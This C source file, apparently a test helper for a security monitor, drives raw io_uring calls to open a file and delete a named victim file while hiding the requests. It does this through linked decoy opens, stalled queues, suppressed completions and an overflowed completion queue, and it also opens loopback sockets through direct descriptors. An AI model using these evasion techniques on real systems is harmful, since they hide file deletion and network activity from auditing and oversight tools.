/* Opens and removes files through io_uring in ways that hide the requests:
 *   uring_attacks linked COUNT FILE VICTIM   behind COUNT linked requests
 *   uring_attacks pending COUNT FILE VICTIM  with COUNT opens that wait
 *   uring_attacks silent FILE VICTIM         without results
 *   uring_attacks overflow FILE VICTIM       with a full completion queue
 *   uring_attacks fixed PORT                 sends and connects directly
 *   uring_attacks direct PORT                connects a direct TCP socket
 * FILE is opened without a file descriptor, and VICTIM is removed. */
#include <arpa/inet.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static struct io_uring_sqe *sqes;
static char *sq, *cq;
static struct io_uring_params params;
static unsigned tail;
static int ring;

static void *map(size_t size, off_t what) {
  void *at = mmap(0, size, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE,
                  ring, what);
  if (at == MAP_FAILED)
    exit(2);
  return at;
}

static void start(unsigned entries, unsigned results) {
  params.flags = IORING_SETUP_CQSIZE;
  params.cq_entries = results;
  ring = syscall(SYS_io_uring_setup, entries, &params);
  if (ring < 0)
    exit(2);
  sq = map(params.sq_off.array + params.sq_entries * 4, IORING_OFF_SQ_RING);
  cq = map(params.cq_off.cqes + params.cq_entries * sizeof(struct io_uring_cqe),
           IORING_OFF_CQ_RING);
  sqes = map(params.sq_entries * sizeof *sqes, IORING_OFF_SQES);
  int slots[4] = {-1, -1, -1, -1};
  if (syscall(SYS_io_uring_register, ring, IORING_REGISTER_FILES, slots, 4))
    exit(3);
}

static struct io_uring_sqe *add(int opcode, int flags) {
  struct io_uring_sqe *sqe = &sqes[tail];
  ((unsigned *)(sq + params.sq_off.array))[tail] = tail;
  memset(sqe, 0, sizeof *sqe);
  sqe->opcode = opcode;
  sqe->flags = flags;
  sqe->fd = AT_FDCWD;
  tail++;
  return sqe;
}

static void add_open(const char *file, int slot, int flags) {
  struct io_uring_sqe *sqe = add(IORING_OP_OPENAT, flags);
  sqe->addr = (uintptr_t)file;
  sqe->file_index = slot + 1;
}

static void add_unlink(const char *victim, int flags) {
  add(IORING_OP_UNLINKAT, flags)->addr = (uintptr_t)victim;
}

static void submit(unsigned count, unsigned wait) {
  __atomic_store_n((unsigned *)(sq + params.sq_off.tail), tail,
                   __ATOMIC_RELEASE);
  if (syscall(SYS_io_uring_enter, ring, count, wait, IORING_ENTER_GETEVENTS, 0,
              0) != (long)count)
    exit(4);
}

static void await_removal(const char *victim) {
  struct stat s;
  for (int i = 0; i < 10000 && !stat(victim, &s); i++)
    usleep(1000);
  if (!stat(victim, &s))
    exit(5);
}

static int result(int index) {
  return ((struct io_uring_cqe *)(cq + params.cq_off.cqes))[index].res;
}

int main(int argc, char **argv) {
  if (argc < 3)
    return 1;
  const char *mode = argv[1];
  if (!strcmp(mode, "linked")) {
    int count = atoi(argv[2]);
    start(1024, 2048);
    for (int i = 0; i < count; i++)
      add_open("/nonexistent", 1, IOSQE_IO_HARDLINK);
    add_open(argv[3], 0, IOSQE_IO_HARDLINK);
    add_unlink(argv[4], 0);
    submit(count + 2, count + 2);
    await_removal(argv[4]);
  } else if (!strcmp(mode, "pending")) {
    int pipes[2], count = atoi(argv[2]);
    char byte;
    if (pipe(pipes))
      return 2;
    start(16384, 32768);
    struct io_uring_sqe *read = add(IORING_OP_READ, IOSQE_IO_HARDLINK);
    read->fd = pipes[0];
    read->addr = (uintptr_t)&byte;
    read->len = 1;
    for (int i = 0; i < count; i++)
      add_open("/nonexistent", 1, i + 1 < count ? IOSQE_IO_HARDLINK : 0);
    add_open(argv[3], 0, 0);
    add_unlink(argv[4], 0);
    submit(count + 3, 2);
    await_removal(argv[4]);
  } else if (!strcmp(mode, "silent")) {
    start(8, 16);
    add_open(argv[2], 0, IOSQE_CQE_SKIP_SUCCESS);
    add_unlink(argv[3], IOSQE_CQE_SKIP_SUCCESS);
    submit(2, 0);
    await_removal(argv[3]);
  } else if (!strcmp(mode, "overflow")) {
    start(8, 8);
    for (int i = 0; i < 8; i++)
      add(IORING_OP_NOP, 0);
    submit(8, 8);
    tail = 8; /* the submission queue has 8 entries; the next ones reuse them */
    unsigned *array = (unsigned *)(sq + params.sq_off.array);
    memset(sqes, 0, 2 * sizeof *sqes);
    array[0] = 0;
    array[1] = 1;
    sqes[0].opcode = IORING_OP_OPENAT;
    sqes[0].fd = AT_FDCWD;
    sqes[0].addr = (uintptr_t)argv[2];
    sqes[0].file_index = 1;
    sqes[0].user_data = 1;
    sqes[1].opcode = IORING_OP_UNLINKAT;
    sqes[1].fd = AT_FDCWD;
    sqes[1].addr = (uintptr_t)argv[3];
    sqes[1].user_data = 2;
    tail = 10;
    __atomic_store_n((unsigned *)(sq + params.sq_off.tail), tail,
                     __ATOMIC_RELEASE);
    syscall(SYS_io_uring_enter, ring, 2, 0, 0, 0, 0);
    await_removal(argv[3]);
  } else if (!strcmp(mode, "fixed")) {
    struct sockaddr_in address = {.sin_family = AF_INET,
                                  .sin_port = htons(atoi(argv[2])),
                                  .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    start(8, 16);
    struct io_uring_sqe *sqe = add(IORING_OP_SOCKET, IOSQE_IO_LINK);
    sqe->fd = AF_INET;
    sqe->off = SOCK_DGRAM;
    sqe->file_index = 1;
    struct iovec data = {"message", 7};
    struct sockaddr_in other = address;
    other.sin_port = htons(atoi(argv[2]) + 1);
    struct msghdr message = {.msg_name = &other,
                             .msg_namelen = sizeof other,
                             .msg_iov = &data,
                             .msg_iovlen = 1};
    sqe = add(IORING_OP_SENDMSG, IOSQE_FIXED_FILE | IOSQE_IO_LINK);
    sqe->fd = 0;
    sqe->addr = (uintptr_t)&message;
    sqe->len = 1;
    sqe = add(IORING_OP_CONNECT, IOSQE_FIXED_FILE | IOSQE_IO_LINK);
    sqe->fd = 0;
    sqe->addr = (uintptr_t)&address;
    sqe->off = sizeof address;
    sqe = add(IORING_OP_SEND, IOSQE_FIXED_FILE);
    sqe->fd = 0;
    sqe->addr = (uintptr_t) "datagram";
    sqe->len = 8;
    submit(4, 4);
    for (int i = 0; i < 4; i++)
      printf("%d\n", result(i));
  } else if (!strcmp(mode, "direct")) {
    struct sockaddr_in address = {.sin_family = AF_INET,
                                  .sin_port = htons(atoi(argv[2])),
                                  .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    start(8, 16);
    struct io_uring_sqe *sqe = add(IORING_OP_SOCKET, IOSQE_IO_LINK);
    sqe->fd = AF_INET;
    sqe->off = SOCK_STREAM;
    sqe->file_index = 1;
    sqe = add(IORING_OP_CONNECT, IOSQE_FIXED_FILE);
    sqe->fd = 0;
    sqe->addr = (uintptr_t)&address;
    sqe->off = sizeof address;
    submit(2, 2);
  } else {
    return 1;
  }
  return 0;
}
